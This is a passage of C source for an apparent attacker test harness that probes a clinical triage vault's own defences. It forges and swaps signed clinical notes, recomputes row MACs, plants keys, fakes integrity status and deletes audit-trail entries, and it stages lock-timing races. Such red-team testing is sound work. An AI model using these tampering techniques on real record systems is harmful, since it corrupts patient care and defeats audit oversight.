        (!as_victim || sqlite3_bind_text(st, 9, user, -1, SQLITE_STATIC) == SQLITE_OK) &&
        sqlite3_prepare_v2(raw, "INSERT OR REPLACE INTO meta (key, value) VALUES ('clinical_key:' || ?1, ?2)", -1, &up,
                           NULL) == SQLITE_OK) {
        while (ok && sqlite3_step(st) == SQLITE_ROW) {
            unsigned char env[VAULT_SEALED_KEY_BYTES];
            ok = sqlite3_column_bytes(st, 1) == VAULT_PK_BYTES && vault_clinical_seal_to(mine, sqlite3_column_blob(st, 1), env);
            sqlite3_reset(up);
            ok = ok && sqlite3_bind_text(up, 1, (const char *)sqlite3_column_text(st, 0), -1, SQLITE_TRANSIENT) == SQLITE_OK &&
                 sqlite3_bind_blob(up, 2, env, sizeof env, SQLITE_TRANSIENT) == SQLITE_OK && sqlite3_step(up) == SQLITE_DONE;
        }
    } else {
        ok = false;
    }
    sqlite3_finalize(st);
    sqlite3_finalize(up);
    ok = ok && run("COMMIT");
    if (raw) sqlite3_close(raw);
    vault_clinical_free(mine);
    vault_free(v);
    return ok ? 0 : 1;
}

/* The note signature header, from the source (clinical_key.c). */
static char *forged_header(const vault *v, const char *signer, const char *row, const char *text) {
    static const unsigned char zero[VAULT_MAC_BYTES];
    unsigned char m[256], sig[VAULT_SIG_BYTES];
    size_t n = 0;
    const char *parts[] = {"triage-note-sig-v1", "intakes", row, signer};
    for (size_t i = 0; i < 4; i++) {
        memcpy(m + n, parts[i], strlen(parts[i]) + 1);
        n += strlen(parts[i]) + 1;
    }
    vault_chain_hash(zero, text, strlen(text), m + n);
    if (!vault_sign(v, m, n + VAULT_MAC_BYTES, sig)) return NULL;
    char hex[2 * VAULT_SIG_BYTES + 1];
    hex_encode(sig, sizeof sig, hex);
    size_t size = strlen(signer) + strlen(text) + sizeof hex + 16;
    char *out = malloc(size);
    if (out) snprintf(out, size, "\x1bsig1:%s:%s\n%s", signer, hex, text);
    return out;
}

static bool raw_text(const char *sql, const char *arg, char *out, size_t size) {
    sqlite3_stmt *st = NULL;
    bool ok = sqlite3_prepare_v2(raw, sql, -1, &st, NULL) == SQLITE_OK &&
              sqlite3_bind_text(st, 1, arg, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_ROW &&
              sqlite3_column_bytes(st, 0) < (int)size;
    if (ok) {
        memcpy(out, sqlite3_column_blob(st, 0), (size_t)sqlite3_column_bytes(st, 0));
        out[sqlite3_column_bytes(st, 0)] = '\0';
    }
    sqlite3_finalize(st);
    return ok;
}

/* plain sealed as triage seals a note: to the clinical public key pk (from meta), then wrapped under its client's key
 * (schema 11), which the data key the attacker holds opens, so that only the signature inside stands between her and
 * the clinician. On the raw connection. */
static bool note_sealed(const vault *v, const char *pk, const char *intake, const char *plain, unsigned char **ct,
                        size_t *n) {
    *ct = NULL;
    *n = 0;
    if (!vault_note_seal((const unsigned char *)pk, "intakes", "notes", intake, plain, strlen(plain), ct, n)) return false;
    char client[64], kct[VAULT_CLIENT_KEY_SEALED + 1];
    unsigned char *ckey = sodium_malloc(VAULT_KEY_BYTES);
    bool ok = true;
    if (ckey && raw_text("SELECT client_id FROM intakes WHERE id = ?1", intake, client, sizeof client) &&
        raw_text("SELECT key_ct FROM client_keys WHERE client_id = ?1", client, kct, sizeof kct) &&
        vault_client_key_open(v, client, (const unsigned char *)kct, VAULT_CLIENT_KEY_SEALED, ckey)) {
        blob b = {*ct, *n};
        error werr = {0};
        ok = ckey_wrap(ckey, client, "intakes", "notes", intake, &b, &werr);
        *ct = b.p;
        *n = b.n;
    }
    sodium_free(ckey);
    return ok;
}

static int forge_clinical_note(const char *cfg_path, const char *path, const char *user, const char *intake,
                               const char *text, const char *how) {
    vault *v = unlock_as(cfg_path, path, user);
    if (!v || !open_raw(path)) return 1;
    char pk[VAULT_PK_BYTES + VAULT_MAC_BYTES + 1], author[64], me[64];
    bool ok = raw_text("SELECT value FROM meta WHERE key = ?1", "clinical_pk", pk, sizeof pk) &&
              raw_text("SELECT created_by FROM intakes WHERE id = ?1", intake, author, sizeof author) &&
              raw_text("SELECT id FROM staff WHERE name = ?1", user, me, sizeof me);
    char *plain = NULL;
    if (ok && !strcmp(how, "unsigned")) plain = strdup(text);
    else if (ok && !strcmp(how, "self")) plain = forged_header(v, me, intake, text);
    else if (ok && !strcmp(how, "as-author")) plain = forged_header(v, author, intake, text);
    unsigned char *ct = NULL, spk[VAULT_SIGN_PK_BYTES];
    size_t n = 0;
    ok = plain && note_sealed(v, pk, intake, plain, &ct, &n);
    sqlite3_stmt *st = NULL;
    ok = ok && sqlite3_prepare_v2(raw, "UPDATE intakes SET notes_ct = ?1 WHERE id = ?2", -1, &st, NULL) == SQLITE_OK &&
         sqlite3_bind_blob(st, 1, ct, (int)n, SQLITE_TRANSIENT) == SQLITE_OK &&
         sqlite3_bind_text(st, 2, intake, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    st = NULL;
    if (ok && !strcmp(how, "as-author"))
        ok = vault_signer_pk(v, spk) &&
             sqlite3_prepare_v2(raw, "UPDATE meta SET value = ?1 WHERE key = 'sign_pk:' || ?2", -1, &st, NULL) == SQLITE_OK &&
             sqlite3_bind_blob(st, 1, spk, sizeof spk, SQLITE_STATIC) == SQLITE_OK &&
             sqlite3_bind_text(st, 2, author, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    if (!ok) fprintf(stderr, "attacker: forge: %s\n", sqlite3_errmsg(raw));
    sqlite3_close(raw);
    free(plain);
    free(ct);
    vault_free(v);
    return ok ? 0 : 1;
}

/* swap-note: reception replaces a clinician's note with her own, sealed to the clinical key and signed by herself,
 * the intake's created_by set to her and its row MAC recomputed under the data key she holds (attacker round 13:
 * the reader compared the signer with that column, and the clinician read "client is fine"). Prints `swapped: 1`. */
static int swap_note(const char *cfg_path, const char *path, const char *user, const char *intake, const char *text) {
    vault *v = unlock_as(cfg_path, path, user);
    if (!v || !open_raw(path)) return 1;
    char pk[VAULT_PK_BYTES + VAULT_MAC_BYTES + 1], me[64];
    bool ok = raw_text("SELECT value FROM meta WHERE key = ?1", "clinical_pk", pk, sizeof pk) &&
              raw_text("SELECT id FROM staff WHERE name = ?1", user, me, sizeof me);
    char *plain = ok ? forged_header(v, me, intake, text) : NULL;
    unsigned char *ct = NULL;
    size_t n = 0;
    ok = plain && note_sealed(v, pk, intake, plain, &ct, &n);
    sqlite3_stmt *st = NULL;
    ok = ok && sqlite3_prepare_v2(raw, "UPDATE intakes SET notes_ct = ?1, created_by = ?3 WHERE id = ?2", -1, &st, NULL) == SQLITE_OK &&
         sqlite3_bind_blob(st, 1, ct, (int)n, SQLITE_TRANSIENT) == SQLITE_OK &&
         sqlite3_bind_text(st, 2, intake, -1, SQLITE_STATIC) == SQLITE_OK &&
         sqlite3_bind_text(st, 3, me, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    sqlite3_close(raw);
    if (!ok) { fprintf(stderr, "swap failed\n"); return 1; }
    /* the row MAC again, under the data key reception holds */
    database db;
    int opened = open_with_config(cfg_path, path, &db);
    if (opened) return opened;
    intake_rec r;
    if (db.ops->intake_get(db.st, intake, &r) != ST_OK) return 1;
    rowmac_seal_intake(v, &r);
    db_close(&db);
    if (!open_raw(path)) return 1;
    ok = sqlite3_prepare_v2(raw, "UPDATE intakes SET mac = ?1 WHERE id = ?2", -1, &st, NULL) == SQLITE_OK &&
         sqlite3_bind_blob(st, 1, r.mac, 32, SQLITE_TRANSIENT) == SQLITE_OK &&
         sqlite3_bind_text(st, 2, intake, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    sqlite3_close(raw);
    intake_rec_free(&r);
    free(plain);
    vault_free(v);
    printf("swapped: %d\n", ok);
    return ok ? 0 : 1;
}

/* remac-client (attacker round 16): reception re-MACs every intake and queue item of CLIENT as the file now has them, under the
 * data key her passphrase opens (README: every role holds the data key the MAC key comes from). */
static int remac_client(const char *cfg_path, const char *path, const char *user, const char *client) {
    vault *v = unlock_as(cfg_path, path, user);
    if (!v) return 1;
    database db;
    int opened = open_with_config(cfg_path, path, &db);
    if (opened) return opened;
    intake_rec *in = NULL; queue_rec *q = NULL; int ni = 0, nq = 0;
    if (db.ops->intake_list_for_client(db.st, client, &in, &ni) != ST_OK ||
        db.ops->queue_all_for_client(db.st, client, &q, &nq) != ST_OK) { fprintf(stderr, "list failed\n"); return 1; }
    for (int i = 0; i < nq; i++) rowmac_seal_queue(v, &q[i]);
    for (int i = 0; i < ni; i++) rowmac_seal_intake(v, &in[i]);
    db_close(&db);
    if (!open_raw(path)) return 1;
    int ok = 1;
    for (int i = 0; i < ni; i++) {
        sqlite3_stmt *st = NULL;
        ok = ok && sqlite3_prepare_v2(raw, "UPDATE intakes SET mac = ?1 WHERE id = ?2", -1, &st, NULL) == SQLITE_OK &&
             sqlite3_bind_blob(st, 1, in[i].mac, 32, SQLITE_TRANSIENT) == SQLITE_OK &&
             sqlite3_bind_text(st, 2, in[i].id, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
        sqlite3_finalize(st);
    }
    for (int i = 0; i < nq; i++) {
        sqlite3_stmt *st = NULL;
        ok = ok && sqlite3_prepare_v2(raw, "UPDATE queue_items SET mac = ?1, mac_state = NULL WHERE id = ?2", -1, &st, NULL) == SQLITE_OK &&
             sqlite3_bind_blob(st, 1, q[i].mac, 32, SQLITE_TRANSIENT) == SQLITE_OK &&
             sqlite3_bind_text(st, 2, q[i].id, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
        sqlite3_finalize(st);
    }
    sqlite3_close(raw);
    printf("remac: %d intakes, %d queue items, ok=%d\n", ni, nq, ok);
    return ok ? 0 : 1;
}

static int read_intake(const char *cfg_path, const char *path, const char *user, const char *intake) {
    config cfg;
    diag d = {NULL, 0, 0};
    if (!config_load(&cfg, cfg_path, &d)) return 2;
    db_settings set;
    db_settings_from_config(&cfg, &set);
    char pass[256];
    error err = {0};
    if (!fgets(pass, sizeof pass, stdin)) return 2;
    pass[strcspn(pass, "\n")] = '\0';
    database db;
    session *s = NULL;
    int wait = 0;
    if (!db_open(&db, path, false, &set, &err)) return 1;
    if (session_login(&db, user, pass, strlen(pass), &s, &wait, &err) != LOGIN_OK) {
        fprintf(stderr, "attacker: login: %s\n", err.msg);
        db_close(&db);
        return 1;
    }
    intake_rec meta;
    char *body = NULL, *notes = NULL;
    bool ok = intake_open(s, intake, &meta, &body, &notes, &err);
    if (ok) {
        printf("NOTE %s\n", notes ? notes : "(none)");
        intake_rec_free(&meta);
    } else {
        fprintf(stderr, "refused: %s\n", err.msg);
    }
    secret_free(body);
    secret_free(notes);
    session_end(s);
    db_close(&db);
    return ok ? 0 : 1;
}

/* unpin CONFIG DB USER: USER appends a signed clinical_key entry that names no key (as before pins) */
static int unpin(const char *cfg_path, const char *path, const char *user) {
    vault *v = unlock_as(cfg_path, path, user);
    config cfg; diag d = {NULL, 0, 0}; db_settings set; database db; error err = {0}; staff_rec me;
    bool ok = v && config_load(&cfg, cfg_path, &d);
    if (ok) db_settings_from_config(&cfg, &set);
    ok = ok && db_open(&db, path, false, &set, &err);
    if (ok) {
        ok = db.ops->staff_by_name(db.st, user, &me) == ST_OK && db_begin(&db, &err) &&
             audit_log(&db, v, me.id, "clinical_key", "", "clinical key rotated: 0 notes re-sealed", &err) && db_commit(&db, &err);
        if (!ok) fprintf(stderr, "attacker: unpin: %s\n", err.msg);
        db_close(&db);
    }
    vault_free(v);
    return ok ? 0 : 1;
}

/* peak-rss OUT COMMAND...: COMMAND run as a child; its peak RSS (KiB) written to OUT. */
static int peak_rss(const char *out, char **cmd) {
    pid_t pid = fork();
    if (pid < 0) return 1;
    if (pid == 0) {
        execvp(cmd[0], cmd);
        _exit(127);
    }
    int status = 0;
    struct rusage ru;
    if (wait4(pid, &status, 0, &ru) != pid) return 1;
    FILE *fp = fopen(out, "w");
    if (!fp) return 1;
    fprintf(fp, "%ld\n", ru.ru_maxrss);
    fclose(fp);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

/* forge-verify-last CONFIG DB USER (passphrase on stdin): meta verify_last := "now sound", sealed under the data
 * key USER (any role) holds, with no login (nothing audited). */
static int forge_verify_last(const char *cfg_path, const char *path, const char *user) {
    vault *v = unlock_as(cfg_path, path, user);
    char text[48];
    int n = snprintf(text, sizeof text, "%lld sound", (long long)time(NULL));
    unsigned char *ct = NULL;
    size_t ctn = 0;
    bool ok = v && open_raw(path) && vault_seal(v, "meta", "verify_last", "meta", text, (size_t)n, &ct, &ctn);
    sqlite3_stmt *st = NULL;
    ok = ok && sqlite3_prepare_v2(raw, "INSERT OR REPLACE INTO meta (key, value) VALUES ('verify_last', ?)", -1, &st,
                                  NULL) == SQLITE_OK &&
         sqlite3_bind_blob(st, 1, ct, (int)ctn, SQLITE_TRANSIENT) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    if (raw) sqlite3_close(raw);
    free(ct);
    vault_free(v);
    return ok ? 0 : 1;
}

/* ---- round 7: a kept clinical key made the file's again; entries any login or no key can write ---- */

static bool staff_blob(const char *id, unsigned char pk[VAULT_PK_BYTES]) {
    sqlite3_stmt *st = NULL;
    bool ok = sqlite3_prepare_v2(raw, "SELECT public_key FROM staff WHERE id = ?1", -1, &st, NULL) == SQLITE_OK &&
              sqlite3_bind_text(st, 1, id, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_ROW &&
              sqlite3_column_bytes(st, 0) == VAULT_PK_BYTES;
    if (ok) memcpy(pk, sqlite3_column_blob(st, 0), VAULT_PK_BYTES);
    sqlite3_finalize(st);
    return ok;
}

static bool meta_blob(const char *key, unsigned char *out, int size) {
    sqlite3_stmt *st = NULL;
    bool ok = sqlite3_prepare_v2(raw, "SELECT value FROM meta WHERE key = ?1", -1, &st, NULL) == SQLITE_OK &&
              sqlite3_bind_text(st, 1, key, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_ROW &&
              sqlite3_column_bytes(st, 0) == size;
    if (ok) memcpy(out, sqlite3_column_blob(st, 0), (size_t)size);
    sqlite3_finalize(st);
    return ok;
}

static bool meta_set(const char *key, const unsigned char *v, int n) {
    sqlite3_stmt *st = NULL;
    bool ok = sqlite3_prepare_v2(raw, "UPDATE meta SET value = ?1 WHERE key = ?2", -1, &st, NULL) == SQLITE_OK &&
              sqlite3_bind_blob(st, 1, v, n, SQLITE_TRANSIENT) == SQLITE_OK &&
              sqlite3_bind_text(st, 2, key, -1, SQLITE_STATIC) == SQLITE_OK && sqlite3_step(st) == SQLITE_DONE;
    sqlite3_finalize(st);
    return ok;
}

static int keep_clinical(const char *cfg_path, const char *path, const char *user, const char *out) {
    vault *v = unlock_as(cfg_path, path, user);
    char id[64], key[128];
    unsigned char env[VAULT_SEALED_KEY_BYTES], mine[VAULT_PK_BYTES], kept[VAULT_SEALED_KEY_BYTES];
    bool ok = v && open_raw(path) && raw_text("SELECT id FROM staff WHERE name = ?1", user, id, sizeof id) &&
              staff_blob(id, mine);
    snprintf(key, sizeof key, "clinical_key:%s", ok ? id : "");
    vault_clinical *k = ok && meta_blob(key, env, sizeof env) ? vault_clinical_open(v, env) : NULL;
    FILE *f = k ? fopen(out, "wb") : NULL;
    ok = f && vault_clinical_seal_to(k, mine, kept) && fwrite(kept, 1, sizeof kept, f) == sizeof kept;
    if (f) fclose(f);
    printf("keep-clinical: %s\n", ok ? "kept" : "FAILED (no envelope of USER opens)");
    vault_clinical_free(k);
    vault_free(v);
    if (raw) sqlite3_close(raw);
    return ok ? 0 : 1;
}

static int plant_kept(const char *cfg_path, const char *path, const char *user, const char *kept_file) {
    vault *v = unlock_as(cfg_path, path, user);
    unsigned char env[VAULT_SEALED_KEY_BYTES];
    FILE *f = fopen(kept_file, "rb");
    bool ok = v && f && fread(env, 1, sizeof env, f) == sizeof env;
    if (f) fclose(f);
    vault_clinical *k = ok ? vault_clinical_open(v, env) : NULL;
    ok = k && open_raw(path) && run("BEGIN");
    /* meta clinical_pk: the public key and its row MAC under the data key, as clinical_key.c writes it */
    static const char tag[] = "triage-clinical-pk-v1";
    unsigned char m[sizeof tag - 1 + VAULT_PK_BYTES], val[VAULT_PK_BYTES + VAULT_MAC_BYTES];
    if (ok) {
        vault_clinical_pk(k, val);
        memcpy(m, tag, sizeof tag - 1);
        memcpy(m + sizeof tag - 1, val, VAULT_PK_BYTES);
        vault_row_mac(v, m, sizeof m, val + VAULT_PK_BYTES);
        ok = meta_set("clinical_pk", val, sizeof val);
    }
    sqlite3_stmt *sel = NULL;
    int n = 0;
    ok = ok && sqlite3_prepare_v2(raw, "SELECT s.id, s.public_key FROM staff s JOIN meta m ON m.key = 'clinical_key:' || s.id",
                                  -1, &sel, NULL) == SQLITE_OK;
    while (ok && sqlite3_step(sel) == SQLITE_ROW) {
        char key[128];
        snprintf(key, sizeof key, "clinical_key:%s", (const char *)sqlite3_column_text(sel, 0));
        ok = sqlite3_column_bytes(sel, 1) == VAULT_PK_BYTES && vault_clinical_seal_to(k, sqlite3_column_blob(sel, 1), env) &&
             meta_set(key, env, sizeof env);
        n++;
    }
    sqlite3_finalize(sel);
    ok = ok && run("COMMIT");
    printf("plant-kept: meta clinical_pk and %d envelope(s): %s\n", n, ok ? "planted" : "FAILED");
    vault_clinical_free(k);
    vault_free(v);
    if (raw) sqlite3_close(raw);
    return ok ? 0 : 1;
}

static int kdf_entry(const char *cfg_path, const char *path, const char *user, const char *victim, const char *ops,
                     const char *mem) {
    char pass[256];
    database db;
    if (open_with_pass(cfg_path, path, &db, pass, sizeof pass) != 0) return 1;
    error err = {0};
    int wait = 0;
    session *s = NULL;
    staff_rec r;
    bool ok = session_login(&db, user, pass, strlen(pass), &s, &wait, &err) == LOGIN_OK &&
              db.ops->staff_by_name(db.st, victim, &r) == ST_OK;
    sodium_memzero(pass, sizeof pass);
    if (ok) {
        r.keys.kdf.opslimit = strtoull(ops, NULL, 10);
        r.keys.kdf.memlimit = strtoull(mem, NULL, 10);
        ok = session_begin(s, &err) && audit_record_kdf(&db, s->v, s->me.id, r.id, &r.keys.kdf, &err) && db_commit(&db, &err);
    }
    printf("kdf-entry: staff_kdf for %s signed by %s: %s %s\n", victim, user, ok ? "appended" : "FAILED", err.msg);
    session_end(s);
    db_close(&db);
    if (!ok || !open_raw(path)) return 1;
    char q[256];
    snprintf(q, sizeof q, "UPDATE staff SET kdf_ops = %llu, kdf_mem = %llu WHERE name = '%s'", strtoull(ops, NULL, 10),
             strtoull(mem, NULL, 10), victim);
    ok = run(q);
    sqlite3_close(raw);
    return ok ? 0 : 1;
}

static int keyless_lock(const char *cfg_path, const char *path, const char *victim) {
    char line[256];
    database db;
    if (open_with_pass(cfg_path, path, &db, line, sizeof line) != 0) return 1;
    staff_rec r;
    error err = {0};
    bool ok = db.ops->staff_by_name(db.st, victim, &r) == ST_OK && db_begin(&db, &err) &&
              audit_log(&db, NULL, r.id, "login_failed", r.id, "wrong passphrase; account locked", &err) &&
              db_commit(&db, &err);
    printf("keyless-lock: %s: %s %s\n", victim, ok ? "appended" : "FAILED", err.msg);
    db_close(&db);
    return ok ? 0 : 1;
}

static int append_signed(const char *cfg_path, const char *path, const char *user, const char *action,
                         const char *object, const char *detail) {
    vault *v = unlock_as(cfg_path, path, user);
    if (!v || !open_raw(path)) return 1;
    char id[64] = "", triggers[8192] = "", from_s[32] = "";
    bool ok = raw_text("SELECT id FROM staff WHERE name = ?1", user, id, sizeof id) && begin_untriggered(triggers);
    entry e;
    memset(&e, 0, sizeof e);
    entry prev;
    memset(&prev, 0, sizeof prev);
    sqlite3_stmt *st = NULL;
    ok = ok && sqlite3_prepare_v2(raw, "SELECT seq, hash, at, sig FROM audit ORDER BY seq DESC LIMIT 1", -1, &st, NULL) == SQLITE_OK &&
         sqlite3_step(st) == SQLITE_ROW;
    if (ok) {
        e.seq = sqlite3_column_int64(st, 0) + 1;
        memcpy(prev.hash, sqlite3_column_blob(st, 1), VAULT_MAC_BYTES);
        e.at = sqlite3_column_int64(st, 2);
        prev.has_sig = sqlite3_column_type(st, 3) != SQLITE_NULL;
        if (prev.has_sig) memcpy(prev.sig, sqlite3_column_blob(st, 3), VAULT_SIG_BYTES);
    }
    sqlite3_finalize(st);
    if ((int64_t)time(NULL) > e.at) e.at = (int64_t)time(NULL);
    snprintf(e.staff, sizeof e.staff, "%s", id);
    snprintf(e.action, sizeof e.action, "%s", action);
    snprintf(e.object, sizeof e.object, "%s", object);
    snprintf(e.detail, sizeof e.detail, "%s", detail);
    unsigned char own[VAULT_MAC_BYTES];
    bool has_own = false;
    sqlite3_stmt *ow = NULL;
    if (sqlite3_prepare_v2(raw, "SELECT hash FROM audit WHERE staff_id = ?1 AND sig IS NOT NULL ORDER BY seq DESC LIMIT 1",
                           -1, &ow, NULL) == SQLITE_OK) {
        sqlite3_bind_text(ow, 1, id, -1, SQLITE_STATIC);
        if (sqlite3_step(ow) == SQLITE_ROW) {
            memcpy(own, sqlite3_column_blob(ow, 0), VAULT_MAC_BYTES);
            has_own = true;
        }
    }
    sqlite3_finalize(ow);
    entry_hash(&prev, has_own ? own : NULL, true, &e);
    unsigned char m[128], sig[VAULT_SIG_BYTES];
    memcpy(m, "triage-audit-v2", 15);
    memcpy(m + 15, e.hash, VAULT_MAC_BYTES);
    ok = ok && vault_sign(v, m, 15 + VAULT_MAC_BYTES, sig) &&
         sqlite3_prepare_v2(raw, "INSERT INTO audit (seq, at, staff_id, action, object_id, detail, hash, sig) "
                                 "VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)", -1, &st, NULL) == SQLITE_OK;
    if (ok) {
        sqlite3_bind_int64(st, 1, e.seq);
        sqlite3_bind_int64(st, 2, e.at);
        sqlite3_bind_text(st, 3, e.staff, -1, SQLITE_STATIC);
        sqlite3_bind_text(st, 4, e.action, -1, SQLITE_STATIC);
        sqlite3_bind_text(st, 5, e.object, -1, SQLITE_STATIC);
        sqlite3_bind_text(st, 6, e.detail, -1, SQLITE_STATIC);
        sqlite3_bind_blob(st, 7, e.hash, VAULT_MAC_BYTES, SQLITE_STATIC);
        sqlite3_bind_blob(st, 8, sig, VAULT_SIG_BYTES, SQLITE_STATIC);
        ok = sqlite3_step(st) == SQLITE_DONE;
    }
    sqlite3_finalize(st);
    /* the head (v2: with meta audit_signed_from), signed by USER */
    ok = ok && raw_text("SELECT CAST(value AS TEXT) FROM meta WHERE key = ?1", "audit_signed_from", from_s, sizeof from_s);
    int64_t from = atoll(from_s);
    size_t l = strlen("triage-audit-head-v2");
    memcpy(m, "triage-audit-head-v2", l);
    for (int i = 0; i < 8; i++) m[l + (size_t)i] = (unsigned char)((uint64_t)e.seq >> (8 * i));
    memcpy(m + l + 8, e.hash, VAULT_MAC_BYTES);
    for (int i = 0; i < 8; i++) m[l + 40 + (size_t)i] = (unsigned char)((uint64_t)from >> (8 * i));
    unsigned char buf[8 + VAULT_MAC_BYTES + VAULT_SIG_BYTES + 64];
    memcpy(buf, m + l, 8 + VAULT_MAC_BYTES);
    size_t idlen = strlen(id);
    ok = ok && idlen < 64 && vault_sign(v, m, l + 48, buf + 8 + VAULT_MAC_BYTES) &&
         sqlite3_prepare_v2(raw, "INSERT OR REPLACE INTO meta (key, value) VALUES ('audit_head', ?1)", -1, &st, NULL) == SQLITE_OK;
    if (ok) {
        memcpy(buf + 8 + VAULT_MAC_BYTES + VAULT_SIG_BYTES, id, idlen);
        sqlite3_bind_blob(st, 1, buf, (int)(8 + VAULT_MAC_BYTES + VAULT_SIG_BYTES + idlen), SQLITE_STATIC);
        ok = sqlite3_step(st) == SQLITE_DONE;
    }
    sqlite3_finalize(st);
    ok = ok && run(triggers) && run("COMMIT");
    printf("append-signed: entry %lld (%s by %s), head re-signed: %s\n", (long long)e.seq, action, user, ok ? "done" : "FAILED");
    vault_free(v);
    sqlite3_close(raw);
    return ok ? 0 : 1;
}

/* A desk of USER opened (logged in) on the file; head: the trail's last entry then (the seen record holds it). */
static bool desk_open(const char *cfg_path, const char *path, const char *user, database *db, session **s, char head[32]) {
    char pass[256];
    head[0] = '\0';
    if (open_with_pass(cfg_path, path, db, pass, sizeof pass) != 0) return false;
    if (!open_raw(path) || !raw_text("SELECT CAST(max(seq) AS TEXT) FROM audit WHERE ?1 = ?1", "x", head, 32)) return false;
    sqlite3_close(raw);
    raw = NULL;
    error err = {0};
    int wait = 0;
    bool in = session_login(db, user, pass, strlen(pass), s, &wait, &err) == LOGIN_OK;
    sodium_memzero(pass, sizeof pass);
    if (!in) fprintf(stderr, "desk: login: %s\n", err.msg);
    return in;
}

/* Through a connection of its own (raw), as someone with the file: every audit entry from head on deleted, under
 * the write lock, not yet committed (the append-only triggers dropped and put back). */
static bool cut_staged(const char *path, const char *head) {
    char triggers[8192] = "", sql[128];
    snprintf(sql, sizeof sql, "DELETE FROM audit WHERE seq >= %lld", atoll(head));
    return sqlite3_open_v2(path, &raw, SQLITE_OPEN_READWRITE, NULL) == SQLITE_OK && sqlite3_busy_timeout(raw, 5000) == SQLITE_OK &&
           begin_untriggered(triggers) && run(sql) && run(triggers);
}

/* In a child, with the file: what stage() stages under the write lock on raw, committed 1.5 s later; the parent
 * goes on 0.4 s after the fork, the lock held by then. The child's pid, to wait for. */
static pid_t commit_held(bool (*stage)(const char *path, const char *arg), const char *path, const char *arg) {
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        bool ok = stage(path, arg);
        if (ok) {
            struct timespec hold = {1, 500000000};
            nanosleep(&hold, NULL);
            ok = run("COMMIT");
        }
        sqlite3_close(raw);
        _exit(ok ? 0 : 1);
    }
    struct timespec lead = {0, 400000000};
    nanosleep(&lead, NULL);
    return child;
}

/* Another desk's save of new answers into draft id, as far as the lock and the row go (raw, not committed). */
static bool draft_change_staged(const char *path, const char *id) {
    char sql[256];
    snprintf(sql, sizeof sql, "UPDATE drafts SET body_ct = CAST(body_ct || x'00' AS BLOB) WHERE id = '%s'", id);
    return sqlite3_open_v2(path, &raw, SQLITE_OPEN_READWRITE, NULL) == SQLITE_OK &&
           sqlite3_busy_timeout(raw, 5000) == SQLITE_OK && run("BEGIN IMMEDIATE") && run(sql);
}

static int desk_cut(const char *cfg_path, const char *path, const char *user) {
    char head[32];
    database db;
    session *s = NULL;
    if (!desk_open(cfg_path, path, user, &db, &s, head)) return 1;
    error err = {0};
    bool ok = cut_staged(path, head) && run("COMMIT");
    sqlite3_close(raw);
    if (!ok) return 1;
    char id[STORE_ID_LEN] = "";
    error_clear(&err);
    if (draft_save(s, id, "{\"draft\":1}", &err)) printf("cut: saved\n");
    else printf("cut: refused: %s\n", err.msg);
    session_end(s);
    db_close(&db);
    return 0;
}

/* desk-cut-held: the same cut, staged by someone holding the write lock while the open desk starts its write, and
 * committed 1.5 s later. The desk's seen check ran before it waited for the lock, on the trail not yet cut, and its
 * write then ran on the cut trail (tenth attacker: a supervisor's rotation handed the new clinical key to a demoted
 * clinician that way). Prints `cut: saved` or `cut: refused: MESSAGE`. */
static int desk_cut_held(const char *cfg_path, const char *path, const char *user) {
    char head[32];
    database db;
    session *s = NULL;
    if (!desk_open(cfg_path, path, user, &db, &s, head)) return 1;
    error err = {0};
    pid_t child = commit_held(cut_staged, path, head); /* the one with the file: the cut, committed later */
    char id[STORE_ID_LEN] = "";
    error_clear(&err);
    if (draft_save(s, id, "{\"draft\":1}", &err)) printf("cut: saved\n");
    else printf("cut: refused: %s\n", err.msg);
    int status = 0;
    (void)waitpid(child, &status, 0);
    session_end(s);
    db_close(&db);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : 1;
}

/* discard-race: this desk saves a draft (its tag kept); someone else, holding the write lock, changes that draft's
 * row (here raw: another desk's save of new answers), committed 1.5 s later; meanwhile this desk discards the draft
 * by its tag. Checked before waiting for the lock, the tag matched the old row and the new answers were deleted
 * (attacker round 13: another desk's RED answers). Prints `discard: done` or `discard: refused: MESSAGE`, then
 * `draft: there` or `draft: gone`. */
static int discard_race(const char *cfg_path, const char *path, const char *user) {
    char head[32];
    database db;
    session *s = NULL;
    if (!desk_open(cfg_path, path, user, &db, &s, head)) return 1;
    error err = {0};
    char id[STORE_ID_LEN] = "";
    unsigned char tag[DRAFT_TAG_BYTES];
    bool tagged = false;
    if (!draft_save_tagged(s, id, "{\"draft\":1}", tag, &tagged, NULL, NULL, &err) || !tagged) {
        fprintf(stderr, "attacker: draft: %s\n", err.msg);
        return 1;
    }
    pid_t child = commit_held(draft_change_staged, path, id);
    error_clear(&err);
    if (draft_abandon(s, id, "red", tag, &err)) printf("discard: done\n");
    else printf("discard: refused: %s\n", err.msg);
    int status = 0;
    (void)waitpid(child, &status, 0);
    char n[32] = "";
    bool there = open_raw(path) && raw_text("SELECT CAST(count(*) AS TEXT) FROM drafts WHERE id = ?1", id, n, sizeof n) &&
                 atoi(n) == 1;
    if (raw) sqlite3_close(raw);
    printf("draft: %s\n", there ? "there" : "gone");
    session_end(s);
    db_close(&db);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : 1;
}

int main(int argc, char **argv) {
    if (argc >= 4 && !strcmp(argv[1], "peak-rss")) return peak_rss(argv[2], argv + 3);
    if (argc == 5 && !strcmp(argv[1], "forge-verify-last"))
        return vault_init() ? forge_verify_last(argv[2], argv[3], argv[4]) : 1;
